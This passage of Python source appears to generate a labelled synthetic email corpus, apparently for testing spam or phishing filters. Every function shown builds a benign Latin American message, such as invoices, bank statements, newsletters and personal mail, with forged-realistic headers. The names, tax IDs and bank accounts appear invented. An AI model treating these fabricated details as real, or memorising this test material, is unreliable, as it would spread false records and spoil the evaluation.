           f"Message-ID: <{guid(stem)}@{dom}>", "MIME-Version: 1.0"]
    emit(stem, "bulk", "Genuine BCP transfer receipt (constancia de transferencia) from the bank's notifications domain, "
         "no links.", env, own, alt(plain, html, java_boundary(stem, d)))


def legit_factura_peru_nubefact() -> None:
    stem = "b45-legit-factura-peru-nubefact"
    d = when(2025, 1, 22, 9, 5, 18, "pe")
    dom = "nubefact.com"
    rcpt = "compras@textilesdelsur.com.pe"
    emisor = "DISTRIBUIDORA ANDINA S.A.C."
    pdf = files.pdf([emisor, "RUC 20601847725", "FACTURA ELECTRONICA F001-00004587", "Cliente: TEXTILES DEL SUR S.A.C. RUC 20512277841",
                     "Fecha de emision: 22/01/2025", "Hilo de algodon peinado 30/1 - 850 kg", "Op. gravada S/ 31,440.68  IGV S/ 5,659.32",
                     "Importe total S/ 37,100.00", "Representacion impresa de la Factura Electronica"], title="F001-00004587")
    xml = ('<?xml version="1.0" encoding="UTF-8"?>\n<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2" '
           'xmlns:cbc="urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2"><cbc:UBLVersionID>2.1</cbc:UBLVersionID>'
           '<cbc:ID>F001-00004587</cbc:ID><cbc:IssueDate>2025-01-22</cbc:IssueDate><cbc:InvoiceTypeCode>01</cbc:InvoiceTypeCode>'
           '<cbc:DocumentCurrencyCode>PEN</cbc:DocumentCurrencyCode></Invoice>\n').encode()
    hdrs, host = ses_headers(stem, d, dom, f"mail.{dom}", emisor, f"noreply@{dom}", rcpt,
                             f"{emisor} - Factura Electrónica F001-00004587",
                             extra=["Reply-To: facturacion@distribuidoraandina.com.pe"])
    paras = [f"Estimado cliente TEXTILES DEL SUR S.A.C.,",
             f"<b>{emisor}</b> le envía la Factura Electrónica <b>F001-00004587</b> por un importe total de <b>S/ 37,100.00</b>.",
             "Adjuntamos la representación impresa (PDF) y el archivo XML.",
             "También puede consultar el comprobante en el portal de SUNAT con el RUC del emisor, la serie y el número."]
    footer = ["Enviado por NUBEFACT - Operador de Servicios Electrónicos autorizado por SUNAT", "www.nubefact.com"]
    html = brand_html("NUBEFACT", "#1d3a6d", "Comprobante electrónico", paras, None, footer)
    plain = brand_plain("Comprobante electrónico", paras, None, footer)
    body = Multi("mixed", java_boundary(stem, d), [alt(plain, html, java_boundary(stem + "a", d)),
                                                   attachment("application/pdf", "20601847725-01-F001-00004587.pdf", pdf),
                                                   attachment("text/xml", "20601847725-01-F001-00004587.xml", xml)])
    env = Env("m365", rcpt, d, host["ip"], host["rdns"], host["rdns"], host["mailfrom"], "pass",
              [(dom, hdrs[0].split("s=")[1].split(";")[0], "pass")], ("pass", "none"), dom, country="US")
    emit(stem, "bulk", "Genuine Peruvian electronic invoice from the same supplier whose account is abused in the SharePoint "
         "lure, sent via the Nubefact platform with PDF and UBL XML attached.", env, hdrs, body)


def legit_pichincha_estado_cuenta() -> None:
    stem = "b45-legit-pichincha-estado-cuenta"
    d = when(2024, 9, 6, 7, 30, 12, "ec")
    dom = "pichincha.com"
    rcpt = "paola.andrade.m@outlook.com"
    hdrs, host = ses_headers(stem, d, dom, f"correo.{dom}", "Banco Pichincha", f"estadosdecuenta@{dom}", rcpt,
                             "Estado de cuenta Tarjeta de Crédito Visa - Agosto 2024")
    pdf = files.pdf(["BANCO PICHINCHA C.A.", "ESTADO DE CUENTA - TARJETA DE CREDITO VISA", "Titular: ANDRADE MORA PAOLA",
                     "Fecha de corte: 31/08/2024   Fecha maxima de pago: 20/09/2024",
                     "Saldo total: USD 1,184.27   Pago minimo: USD 96.50"], title="Estado de cuenta 08-2024")
    title = "Su estado de cuenta está disponible"
    paras = ["Estimada Paola Andrade:",
             "Adjunto encontrará el estado de cuenta de su <b>Tarjeta de Crédito Visa Pichincha</b> terminada en 5530 "
             "correspondiente al corte del 31 de agosto de 2024.",
             "<b>Pago mínimo:</b> USD 96,50<br><b>Fecha máxima de pago:</b> 20/09/2024",
             "Para abrir el documento utilice su número de cédula."]
    footer = ["Banco Pichincha nunca le solicitará claves ni códigos de seguridad por correo electrónico.",
              "Banco Pichincha C.A. - Av. Amazonas 4560 y Pereira, Quito"]
    html = brand_html("Banco Pichincha", "#0f265c", title, paras, None, footer)
    plain = brand_plain(title, paras, None, footer)
    body = Multi("mixed", java_boundary(stem, d), [alt(plain, html, java_boundary(stem + "a", d)),
                                                   attachment("application/pdf", "EstadoCuenta_Visa_5530_082024.pdf", pdf)])
    env = Env("outlook", rcpt, d, host["ip"], host["rdns"], host["rdns"], host["mailfrom"], "pass",
              [(dom, hdrs[0].split("s=")[1].split(";")[0], "pass")], ("pass", "reject"), dom, country="US")
    emit(stem, "bulk", "Genuine Banco Pichincha credit-card statement with a cédula-protected PDF, sent via Amazon SES from "
         "pichincha.com.", env, hdrs, body)


def legit_antel_factura() -> None:
    stem = "b45-legit-antel-factura"
    d = when(2025, 3, 4, 9, 15, 40, "uy")
    dom = "antel.com.uy"
    rcpt = "mrodriguez1972@adinet.com.uy"
    title = "Tu factura de Antel ya está disponible"
    paras = ["Hola María,",
             "Tu factura de febrero del servicio <b>Fibra Óptica 300 Mb + Telefonía fija</b> ya está disponible.",
             "<b>Importe:</b> $ 2.134<br><b>Vencimiento:</b> 17/03/2025<br><b>N° de cuenta:</b> 40817722",
             "Podés verla y pagarla en Mi Antel, en la app o en Abitab, Redpagos y bancos."]
    button = ("Ir a Mi Antel", "https://www.antel.com.uy/mi-antel/facturas")
    footer = ["Antel - Guatemala 1075, Montevideo", "Recibís este correo porque estás adherido a la factura electrónica.",
              '<a href="https://www.antel.com.uy/mi-antel/preferencias" style="color:#888888">Gestionar preferencias</a>']
    html = brand_html("antel", "#00a0df", title, paras, button, footer)
    plain = brand_plain(title, paras, button, footer)
    ip = f"200.40.{num(stem, 30, 31)}.{num(stem + 'b', 2, 250)}"
    env = Env("postfix", rcpt, d, ip, f"smtp-out{num(stem, 1, 4)}.{dom}", f"smtp-out{num(stem, 1, 4)}.{dom}",
              f"facturas@{dom}", "pass", [(dom, "antel", "pass")], ("pass", "quarantine"), dom, mx="mx2.adinet.com.uy")
    own = [dkim_sig(dom, "antel", d, stem, h="From:To:Subject:Date:Message-ID:MIME-Version:Content-Type:List-Unsubscribe"),
           f"From: {addr('Antel', f'facturas@{dom}')}", f"To: {rcpt}", subj(title), f"Date: {rfc(d)}",
           f"Message-ID: <{guid(stem)}@{dom}>",
           f"List-Unsubscribe: <https://www.antel.com.uy/mi-antel/preferencias?baja={tok(stem, 24, URLSAFE)}>",
           "MIME-Version: 1.0"]
    emit(stem, "bulk", "Genuine Antel (Uruguay) e-bill availability notice linking to Mi Antel, received on an Adinet mailbox.",
         env, own, alt(plain, html, java_boundary(stem, d)))


def legit_lanacion_newsletter() -> None:
    stem = "b45-legit-lanacion-newsletter"
    d = when(2025, 10, 14, 6, 30, 5, "ar")
    dom = "newsletters.lanacion.com.ar"
    rcpt = "rodrigo.quiroga.ing@gmail.com"
    hdrs, host, click = sfmc_headers(stem, d, dom, "LA NACION", "newsletter", rcpt,
                                     "Los temas del día: dólar, tasas y el debate por el Presupuesto 2026", num(stem, 500000, 599999))
    items = [("Economía", "El dólar oficial abrió estable y el BCRA compró reservas por tercera rueda consecutiva"),
             ("Política", "Presupuesto 2026: los puntos que la oposición quiere modificar en Diputados"),
             ("Sociedad", "Cómo funcionará el nuevo sistema de turnos en los hospitales porteños"),
             ("Deportes", "Eliminatorias: la lista de convocados y las dudas del equipo"),
             ("Lifestyle", "Cinco escapadas de fin de semana largo a menos de 300 km de Buenos Aires")]
    blocks = "\n".join(
        f'<tr><td style="padding:14px 24px;border-bottom:1px solid #eee"><div style="font-size:11px;color:#0250c9;text-transform:uppercase">{s}</div>'
        f'<a href="{click}&amp;n={i}" style="font-family:Georgia,serif;font-size:19px;line-height:25px;color:#111;text-decoration:none">{t}</a></td></tr>'
        for i, (s, t) in enumerate(items, 1))
    html = f"""<!DOCTYPE html><html lang="es"><head><meta charset="utf-8"><title>LA NACION - Newsletter</title></head>
<body style="margin:0;background:#f4f4f4"><table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center">
<table width="600" cellpadding="0" cellspacing="0" style="background:#fff;font-family:Arial,sans-serif">
<tr><td style="padding:18px 24px;border-bottom:3px solid #111;font-family:Georgia,serif;font-size:30px;letter-spacing:1px">LA NACION</td></tr>
<tr><td style="padding:14px 24px;font-size:14px;color:#444">Buen día, Rodrigo. Estas son las noticias que tenés que saber hoy, martes 14 de octubre.</td></tr>
{blocks}
<tr><td style="padding:20px 24px;font-size:11px;color:#888">Recibís este newsletter porque te suscribiste en lanacion.com.ar.<br>
<a href="{click}&amp;n=pref" style="color:#888">Administrar mis newsletters</a> | <a href="{click}&amp;n=unsub" style="color:#888">Desuscribirme</a><br>
S.A. LA NACION - Zepita 3251, C.A.B.A.</td></tr></table></td></tr></table>
<img src="https://click.{dom}/open.aspx?ffcb10-{hexs(stem + 'op', 60)}" width="1" height="1" alt=""></body></html>
"""
    plain = ("LA NACION\n\nBuen día, Rodrigo. Estas son las noticias que tenés que saber hoy.\n\n"
             + "\n\n".join(f"{s.upper()}: {t}\n{click}&n={i}" for i, (s, t) in enumerate(items, 1))
             + f"\n\nAdministrar mis newsletters: {click}&n=pref\n")
    env = Env("gmail", rcpt, d, host["ip"], host["rdns"], host["rdns"], host["mailfrom"], "pass",
              [(dom, "200608", "pass")], ("pass", "none"), dom)
    emit(stem, "bulk", "Genuine LA NACION morning news newsletter via Salesforce Marketing Cloud with tracked links and "
         "one-click unsubscribe.", env, hdrs, alt(plain, html, java_boundary(stem, d)))


def legit_pyar_lista() -> None:
    stem = "b45-legit-pyar-lista"
    d = when(2025, 5, 28, 16, 44, 21, "ar")
    rcpt = "rodrigo.quiroga.ing@gmail.com"
    author, author_mail = "Sofía Maldonado", "sofi.maldonado.dev@gmail.com"
    list_addr = "pyar@python.org.ar"
    body_text = (
        "Hola lista,\n\n"
        "Estoy migrando un proyecto de Django 4.2 a 5.2 y tengo unas vistas que llaman a una API externa con httpx. "
        "¿Conviene pasarlas a vistas async o me quedo con sync y un pool de threads? El deploy es con gunicorn + uvicorn "
        "workers en un VPS chiquito.\n\n"
        "Vi la charla de la PyCon Argentina del año pasado sobre ASGI pero no me quedó claro qué pasa con el ORM dentro "
        "de las vistas async (sync_to_async por todos lados?).\n\n"
        "Gracias!\nSofi\n\n"
        "_______________________________________________\n"
        "pyar mailing list -- pyar@python.org.ar\n"
        "To unsubscribe send an email to pyar-leave@python.org.ar\n"
        "PyAr - Python Argentina - Sitio web: https://www.python.org.ar/\n")
    ip = f"190.210.{num(stem, 1, 250)}.{num(stem + 'b', 2, 250)}"
    host = "mail.python.org.ar"
    env = Env("gmail", rcpt, d, ip, host, host, "pyar-bounces@python.org.ar", "pass",
              [("gmail.com", "20230601", "neutral"), ("python.org.ar", "mm1", "pass")], ("fail", "none"), "gmail.com")
    mid = gmail_msgid(stem)
    own = [dkim_sig("python.org.ar", "mm1", d, stem + "list", h="From:Subject:Date:To:List-Id:List-Post:List-Subscribe:List-Unsubscribe"),
           f"Received: from mail.python.org.ar (localhost [127.0.0.1])\n\tby mail.python.org.ar (Postfix) with ESMTP id {tok(stem + 'q', 10, HEXU)};\n\t{rfc_named(d + timedelta(seconds=2))}",
           dkim_sig("gmail.com", "20230601", d, stem, h="to:subject:message-id:date:from:mime-version:from:to:cc:\n\tsubject:date:message-id:reply-to"),
           "MIME-Version: 1.0",
           f"From: {addr(author, author_mail)}",
           f"Date: {rfc(d)}",
           f"Message-ID: {mid}",
           f"To: {list_addr}",
           f"Message-ID-Hash: {tok(stem + 'mh', 32, string.ascii_uppercase + '234567')}",
           f"X-Message-ID-Hash: {tok(stem + 'mh', 32, string.ascii_uppercase + '234567')}",
           "X-MailFrom: " + author_mail,
           "X-Mailman-Rule-Misses: dmarc-mitigation; no-senders; approved; emergency; loop; banned-address;\n"
           " member-moderation; header-match-pyar.python.org.ar-0; nonmember-moderation; administrivia;\n"
           " implicit-dest; max-recipients; max-size; news-moderation; no-subject; digests; suspicious-header",
           "X-Mailman-Version: 3.3.9",
           "Precedence: list",
           subj("[pyar] Vistas async en Django 5 con httpx: ¿vale la pena?"),
           "List-Id: Python Argentina <pyar.python.org.ar>",
           f"Archived-At: <https://mail.python.org.ar/archives/list/pyar@python.org.ar/message/{tok(stem + 'mh', 32, string.ascii_uppercase + '234567')}/>",
           "List-Archive: <https://mail.python.org.ar/archives/list/pyar@python.org.ar/>",
           "List-Help: <mailto:pyar-request@python.org.ar?subject=help>",
           "List-Owner: <mailto:pyar-owner@python.org.ar>",
           "List-Post: <mailto:pyar@python.org.ar>",
           "List-Subscribe: <mailto:pyar-join@python.org.ar>",
           "List-Unsubscribe: <mailto:pyar-leave@python.org.ar>"]
    emit(stem, "bulk", "Genuine Python Argentina (PyAr) Mailman 3 list post about async Django views, with list headers "
         "and the author's broken Gmail DKIM re-signed by the list server.", env, own, text(body_text, "plain", "8bit"))


def legit_claveunica_cambio() -> None:
    stem = "b45-legit-claveunica-cambio"
    d = when(2025, 11, 3, 22, 14, 56, "cl")
    dom = "claveunica.gob.cl"
    rcpt = "constanza.reyes.h@gmail.com"
    hdrs, host = ses_headers(stem, d, dom, f"mail.{dom}", "ClaveÚnica", f"no-reply@{dom}", rcpt,
                             "Se ha cambiado la contraseña de tu ClaveÚnica")
    title = "Cambio de contraseña de ClaveÚnica"
    paras = ["Hola Constanza,",
             "Te informamos que la contraseña de tu ClaveÚnica asociada al RUN 18.***.**4-7 fue cambiada el "
             "<b>03/11/2025 a las 22:14</b>.",
             "Si realizaste este cambio, no necesitas hacer nada.",
             "Si no reconoces este cambio, recupera tu ClaveÚnica de inmediato desde "
             "<a href=\"https://claveunica.gob.cl/recuperar\">claveunica.gob.cl</a> o llama a la Mesa de Ayuda al 600 360 33 56."]
    footer = ["ClaveÚnica - Gobierno Digital, Ministerio Secretaría General de la Presidencia",
              "ClaveÚnica nunca te pedirá tu contraseña por correo electrónico ni por teléfono."]
    html = brand_html("ClaveÚnica", "#0f69c4", title, paras, None, footer)
    plain = brand_plain(title, paras, None, footer)
    env = Env("gmail", rcpt, d, host["ip"], host["rdns"], host["rdns"], host["mailfrom"], "pass",
              [(dom, hdrs[0].split("s=")[1].split(";")[0], "pass"), ("amazonses.com", "224i4yxa5dv7c2xz3womw6peuasteono", "pass")],
              ("pass", "reject"), dom)
    emit(stem, "bulk", "Genuine ClaveÚnica password-change security notice from claveunica.gob.cl via Amazon SES, pointing "
         "to the official recovery page.", env, hdrs, alt(plain, html, java_boundary(stem, d)))


def sharepoint_mail(stem: str, d: datetime, rcpt: str, sharer: str, initials: str, tenant: str, upn_path: str,
                    file_name: str, kind: str, icon: str, note: str, description: str, folder: str = "bulk") -> None:
    link = (f"https://{tenant}-my.sharepoint.com/:{kind}:/g/personal/{upn_path}/"
            f"E{tok(stem + 'sp', 45, URLSAFE)}?e={tok(stem + 'e', 6, ALNUM)}")
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body>
<div style="font-family:'Segoe UI',Tahoma,sans-serif;max-width:520px;margin:0 auto;padding:24px;border:1px solid #edebe9">
<table role="presentation" cellpadding="0" cellspacing="0"><tr><td style="width:40px;height:40px;border-radius:50%;background:#038387;color:#fff;text-align:center;font-size:15px">{initials}</td>
<td style="padding-left:12px;font-size:18px;color:#242424">{sharer} compartió un archivo con usted</td></tr></table>
<p style="font-size:14px;color:#242424;margin:20px 0">{note}</p>
<table role="presentation" cellpadding="0" cellspacing="0" style="border:1px solid #e1dfdd;width:100%"><tr>
<td style="padding:12px"><img src="https://res-1.cdn.office.net/files/fabric-cdn-prod_20240129.001/assets/item-types/48/{icon}.png" width="32" height="32" alt=""></td>
<td style="padding:12px;font-size:14px;color:#242424">{file_name}</td></tr></table>
<p style="margin:24px 0"><a href="{link}" style="background:#0f6cbd;color:#fff;padding:8px 20px;border-radius:4px;text-decoration:none;font-size:14px">Abrir</a></p>
<p style="font-size:12px;color:#616161">Este vínculo solo funciona para los destinatarios directos de este mensaje.</p>
<p style="font-size:12px;color:#616161"><img src="https://res-1.cdn.office.net/files/fabric-cdn-prod_20240129.001/assets/brand-icons/product/png/microsoft_96x1.png" width="16" alt=""> Microsoft</p>
<p style="font-size:11px;color:#616161">Declaración de privacidad de Microsoft</p>
</div></body></html>
"""
    plain = (f"{sharer} compartió un archivo con usted\n\n{note}\n\n{file_name}\nAbrir: {link}\n\n"
             "Este vínculo solo funciona para los destinatarios directos de este mensaje.\n")
    ip = f"40.107.{num(stem, 200, 244)}.{num(stem + 'b', 2, 250)}"
    host = f"mail-dm6nam{num(stem + 'n', 10, 12)}on20{num(stem + 'm', 600, 799)}.outbound.protection.outlook.com"
    mid = outlook_msgid(stem)
    env = Env("m365", rcpt, d, ip, host, host, "no-reply@sharepointonline.com", "pass",
              [("sharepointonline.com", "selector1", "pass")], ("pass", "reject"), "sharepointonline.com", country="US")
    own = [dkim_sig("sharepointonline.com", "selector1", d, stem, h="From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck"),
           f"From: {addr(sharer, 'no-reply@sharepointonline.com')}",
           f"To: {rcpt}",
           subj(f"{sharer} compartió \"{file_name}\" con usted"),
           f"Date: {rfc(utc(d)).replace('-0000', '+0000')}",
           f"Message-ID: {mid}",
           "X-MS-Exchange-Organization-SharingInvite: true",
           "MIME-Version: 1.0"]
    emit(stem, folder, description, env, own, alt(plain, html, outlook_boundary(mid)))


def legit_sharepoint_interno() -> None:
    sharepoint_mail(
        "b45-legit-sharepoint-interno", when(2025, 12, 2, 17, 8, 44, "pe"), "gerencia@agroexportnorte.com.pe",
        "Carlos Ramos Vílchez", "CR", "agroexportnorte", "cramos_agroexportnorte_com_pe",
        "Presupuesto 2026 - Área Comercial.xlsx", "x", "xlsx",
        "Gerente, le comparto el presupuesto consolidado para la reunión del jueves. Las proyecciones de arándano están en la pestaña 3.",
        "Genuine SharePoint sharing notification inside a Peruvian agro-export company: a colleague shares the 2026 "
        "budget workbook.")


def legit_docusign_arriendo() -> None:
    docusign_mail(
        "b45-legit-docusign-arriendo", when(2025, 7, 8, 16, 40, 2, "cl"), "gmail", "javiera.munoz.r@gmail.com",
        "Javiera Muñoz", "Propiedades del Sur Corretajes", "contratos@propiedadesdelsur.cl",
        "Contrato de arriendo Depto 1204 - Av. Providencia 2215",
        "Hola Javiera, te enviamos el contrato de arriendo para tu firma electrónica. Una vez firmado por ambas partes "
        "te llegará la copia final. Cualquier duda me escribes. Saludos, Ignacio Lagos.",
        "bulk", "Genuine Docusign envelope from a Santiago real-estate broker with a lease to sign, sender reply-to on the "
        "broker's own domain.")


def legit_proveedor_cambio_cuenta() -> None:
    stem = "b45-legit-proveedor-cambio-cuenta"
    d = when(2025, 9, 1, 10, 3, 29, "pe")
    dom = "grupoandessac.com"
    sender = f"tesoreria@{dom}"
    rcpt = "tesoreria@mineraloschancas.com.pe"
    letter = files.pdf(["GRUPO ANDES S.A.C.", "RUC 20548812741", "", "Lima, 1 de setiembre de 2025", "",
                        "Senores: MINERA LOS CHANCAS S.A.", "Presente.-", "",
                        "Comunicamos que a partir del 1 de octubre de 2025 nuestra cuenta recaudadora en soles sera:",
                        "Banco: BBVA Peru - Cuenta corriente 0011-0174-0100052288", "CCI: 011-174-000100052288-71", "",
                        "Las facturas emitidas hasta el 30 de setiembre se siguen pagando en la cuenta BCP habitual.",
                        "Este cambio figurara tambien en el pie de nuestras facturas electronicas.", "",
                        "Ana Lucia Torres Paredes - Gerente General"], title="Comunicado cuenta recaudadora")
    paras = [
        "Estimados señores de Minera Los Chancas,",
        "",
        "Por medio del presente les hacemos llegar el comunicado adjunto, firmado por nuestra Gerencia General, sobre "
        "la nueva cuenta recaudadora que usaremos a partir del <b>1 de octubre</b>.",
        "",
        "Para su tranquilidad, les pedimos que <b>validen el cambio llamando a nuestra central (01) 615-4400 anexo 212</b>, "
        "como indica su procedimiento de alta de proveedores, antes de registrarlo. Las facturas de setiembre se siguen "
        "pagando en la cuenta BCP de siempre.",
        "",
        "Quedamos atentos.",
        "",
        "Saludos cordiales,",
    ]
    sig = ["<b>Milagros Cárdenas Ríos</b>", "Tesorería", "Grupo Andes S.A.C. | Av. Javier Prado Este 4200, Surco - Lima",
           "T. (01) 615-4400 anexo 212"]
    html = gmail_html(paras, sig)
    plain = "\n".join(strip_tags(p) for p in paras) + "\n\n-- \n" + "\n".join(strip_tags(s) for s in sig) + "\n"
    sh, hop = gmail_sender(sender, d, stem, domain=dom, selector="google")
    body = Multi("mixed", gmail_boundary(stem), [alt(plain, html, gmail_boundary(stem + "a")),
                                                 attachment("application/pdf", "Comunicado_cuenta_recaudadora_GrupoAndes.pdf", letter)])
    env = Env("gmail", rcpt, d, hop["ip"], hop["rdns"], hop["rdns"], sender, "pass", [(dom, "google", "pass")],
              ("pass", "quarantine"), dom)
    own = sh + [f"From: {addr('Tesorería Grupo Andes', sender)}", f"Date: {rfc(d)}", f"Message-ID: {gmail_msgid(stem)}",
                subj("Comunicado: nueva cuenta recaudadora a partir del 01/10/2025"),
                f"To: {addr('Tesorería Minera Los Chancas', rcpt)}",
                f"Cc: {addr('Ana Lucía Torres', f'atorres@{dom}')}"]
    emit(stem, "clean", "Genuine supplier notice of a new collection account from the supplier's real Google Workspace domain, "
         "with a signed letter PDF and an explicit request to verify by phone before registering it.", env, own, body)


def legit_estudio_contable_vep() -> None:
    stem = "b45-legit-estudio-contable-vep"
    d = when(2024, 11, 13, 18, 22, 7, "ar")
    dom = "estudiobianchi.com.ar"
    sender = f"cbianchi@{dom}"
    rcpt = "marianoalvarez.pinturas@gmail.com"
    vep1 = files.pdf(["VOLANTE ELECTRONICO DE PAGO", "Nro. VEP: 00000471185223", "CUIT contribuyente: 20-28417552-3",
                      "Impuesto: 30 - IVA  Periodo: 10/2024", "Importe: $ 412.880,00", "Vencimiento: 18/11/2024",
                      "Generado por: 27-24118732-6"], title="VEP IVA 10-2024")
    vep2 = files.pdf(["VOLANTE ELECTRONICO DE PAGO", "Nro. VEP: 00000471185241", "CUIT contribuyente: 20-28417552-3",
                      "Impuesto: 308 - Autonomos  Periodo: 10/2024", "Importe: $ 68.215,37", "Vencimiento: 18/11/2024"],
                     title="VEP Autonomos 10-2024")
    paras = ["Hola Mariano, ¿cómo estás?", "",
             "Te paso los VEP de IVA y autónomos de octubre. Vencen el lunes 18, así que si podés pagalos antes del viernes "
             "así no tenemos problema con el débito.",
             "Los podés pagar desde el home banking en Pagos &gt; AFIP/ARCA &gt; VEP con tu CUIT, o desde Mercado Pago.",
             "", "El IVA dio más alto porque entró la factura grande del consorcio de Belgrano. Cualquier cosa me llamás.",
             "", "Saludos,"]
    sig = ["<b>Cecilia Bianchi</b>", "Contadora Pública (UBA) - T° 312 F° 45 CPCECABA", "Estudio Bianchi & Asoc.",
           "Av. Cabildo 2040 6° B - C.A.B.A. | Tel. 4783-2216"]
    mid = f"<{hexs(stem, 12).upper()}{hexs(stem + 'x', 4).upper()}$0{hexs(stem + 'y', 8)}${hexs(stem + 'z', 8)}@{dom}>"
    html = outlook_html(paras, sig).replace("charset=utf-8", "charset=iso-8859-1")
    plain = "\n".join(strip_tags(p) for p in paras) + "\n\n" + "\n".join(strip_tags(s) for s in sig) + "\n"
    body = Multi("mixed", f"----=_NextPart_000_{hexs(stem + 'np', 4).upper()}_01DB35F7.{hexs(stem + 'np2', 8).upper()}", [
        alt(plain, html, f"----=_NextPart_001_{hexs(stem + 'np3', 4).upper()}_01DB35F7.{hexs(stem + 'np2', 8).upper()}",
            charset="iso-8859-1"),
        attachment("application/pdf", "VEP_IVA_10-2024.pdf", vep1),
        attachment("application/pdf", "VEP_Autonomos_10-2024.pdf", vep2),
    ])
    host = ferozo(stem)
    env = Env("gmail", rcpt, d, host["ip"], host["rdns"], host["rdns"], sender, "pass", [(dom, "default", "pass")],
              ("pass", "none"), dom)
    own = [dkim_sig(dom, "default", d, stem, h="Content-Type:MIME-Version:Message-ID:Date:Subject:To:From:Sender:\n\tReply-To:Cc"),
           f"Received: from [181.47.{num(stem, 1, 250)}.{num(stem + 'b', 2, 250)}] (port={num(stem + 'p', 50000, 60000)} helo=NOTEBOOK-CB)\n"
           f"\tby {host['rdns']} with esmtpsa  (TLS1.2) tls TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384\n\t(Exim 4.98)\n"
           f"\t(envelope-from <{sender}>)\n\tid 1tBF{tok(stem + 'e', 2, ALNUM)}-{tok(stem + 'f', 6, ALNUM)}-2s\n"
           f"\tfor {rcpt}; {rfc(d + timedelta(seconds=1))}",
           f"From: {addr('Cecilia Bianchi', sender)}",
           f"To: {addr('Mariano Álvarez', rcpt, 'iso-8859-1', 'Q')}",
           subj("VEP IVA y autónomos octubre", "iso-8859-1", "Q"),
           f"Date: {rfc(d)}",
           f"Message-ID: {mid}",
           "MIME-Version: 1.0",
           "X-Mailer: Microsoft Outlook 16.0",
           f"Thread-Index: {tok(stem + 'ti', 28, B64)}",
           "Content-Language: es-ar"]
    emit(stem, "clean", "Genuine accountant-to-client mail in voseo from a small firm's own domain (Outlook over DonWeb SMTP) "
         "with two ARCA VEP payment PDFs attached.", env, own, body)


def legit_familia_fotos() -> None:
    stem = "b45-legit-familia-fotos"
    d = when(2025, 1, 19, 20, 46, 33, "uy")
    sender = "martaperez.uy@gmail.com"
    rcpt = "mrodriguez1972@adinet.com.uy"
    sh, hop = gmail_sender(sender, d, stem)
    bnd = f"Apple-Mail-{guid(stem + 'am', upper=True)}"
    t1 = ("Hola María!\n\nTe mando las fotos del cumple de Facu en Piriápolis. Qué lindo que estuvo el día, "
          "y el agua divina.\n\nLa segunda es la que querías para el cuadro.\n\n")
    t2 = "\nBesos a todos, avisame si llegaron bien.\nMarta\n\nEnviado desde mi iPhone\n"
    body = Multi("mixed", bnd, [
        text(t1, "plain", "quoted-printable"),
        Leaf("image/jpeg", files.photo_jpeg(45), "base64", '; name="IMG_4471.jpeg"; x-apple-part-url=' + guid(stem + "p1", True),
             'inline; filename="IMG_4471.jpeg"'),
        Leaf("image/jpeg", files.photo_jpeg(46), "base64", '; name="IMG_4472.jpeg"; x-apple-part-url=' + guid(stem + "p2", True),
             'inline; filename="IMG_4472.jpeg"'),
        text(t2, "plain", "quoted-printable"),
    ])
    env = Env("postfix", rcpt, d, hop["ip"], hop["rdns"], hop["rdns"], sender, "pass", [("gmail.com", "20230601", "pass")],
              ("pass", "none"), "gmail.com", mx="mx2.adinet.com.uy")
    own = [h for h in sh if not h.startswith("MIME-Version")] + [
        f"From: {addr('Marta Pérez', sender)}",
        "Mime-Version: 1.0 (1.0)",
        f"Date: {rfc(d)}",
        subj("Fotos del cumple de Facu 🎂"),
        f"Message-Id: <{guid(stem + 'mid', True)}@gmail.com>",
        f"To: {addr('María Rodríguez', rcpt)}",
        "X-Mailer: iPhone Mail (22C152)"]
    emit(stem, "clean", "Genuine personal mail in Uruguayan voseo sent from an iPhone through Gmail with two holiday photos "
         "inline, to an Adinet mailbox.", env, own, body)


def legit_cotizacion_pyme() -> None:
    stem = "b45-legit-cotizacion-pyme"
    d = when(2025, 10, 28, 11, 37, 12, "co")
    dom = "montajesindustrialesantioquia.com"
    sender = f"comercial@{dom}"
    rcpt = "jgomez@inversionesmedellin.com.co"
    doc = files.docx(["MONTAJES INDUSTRIALES ANTIOQUIA S.A.S. - NIT 900.458.127-3",
                      "COTIZACIÓN N° 2025-318", "Cliente: Inversiones Medellín S.A.S.",
                      "Mantenimiento preventivo de estanterías selectivas bodega Itagüí (420 posiciones).",
                      "Valor: $ 6.850.000 + IVA. Validez de la oferta: 30 días. Forma de pago: 30 días fecha factura.",
                      "Tiempo de ejecución: 5 días hábiles en horario nocturno."],
                     "Cotización 2025-318", "Natalia Henao")
    paras = ["Buenos días Julián,", "",
             "Según lo conversado en la visita del jueves, adjunto la cotización para el mantenimiento preventivo de las "
             "estanterías de la bodega de Itagüí.",
             "El trabajo lo podemos hacer en horario nocturno para no interrumpir la operación. Si le parece bien, podemos "
             "programar la primera semana de noviembre.", "",
             "Quedo atenta a sus comentarios.", "", "Cordialmente,"]
    sig = ["<b>Natalia Henao Ospina</b>", "Ejecutiva Comercial", "Montajes Industriales Antioquia S.A.S.",
           "Cra. 50 # 12 Sur - 85, Itagüí | Cel. 311 722 4410", "www.montajesindustrialesantioquia.com"]
    sh, hop = m365_sender(dom, sender, d, stem)
    mid = hop["msgid"]
    sh[2] = dkim_sig(dom, "selector1", d, stem, h="From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck")
    html = outlook_html(paras, sig)
    plain = "\n".join(strip_tags(p) for p in paras) + "\n\n" + "\n".join(strip_tags(s) for s in sig) + "\n"
    body = Multi("mixed", outlook_boundary(mid, "004"), [
        alt(plain, html, outlook_boundary(mid)),
        attachment("application/vnd.openxmlformats-officedocument.wordprocessingml.document", "Cotizacion_2025-318_Inversiones_Medellin.docx", doc),
    ])
    env = Env("zimbra", rcpt, d, hop["ip"], hop["rdns"], hop["rdns"], sender, "pass", [(dom, "selector1", "pass")],
              ("pass", "none"), dom, mx="mail.inversionesmedellin.com.co")
    own = sh + [
        f"From: {addr('Natalia Henao Ospina', sender)}",
        f"To: {addr('Julián Gómez', rcpt)}",
        subj("Cotización mantenimiento estanterías bodega Itagüí"),
        *outlook_client_headers(stem, d, "Cotización mantenimiento estanterías bodega Itagüí", attach=True, lang="es-CO"),
        f"Date: {rfc(d)}", f"Message-ID: {mid}", "MIME-Version: 1.0"]
    emit(stem, "clean", "Genuine Colombian SME quotation sent from Microsoft 365 with a Word document attached, to the same "
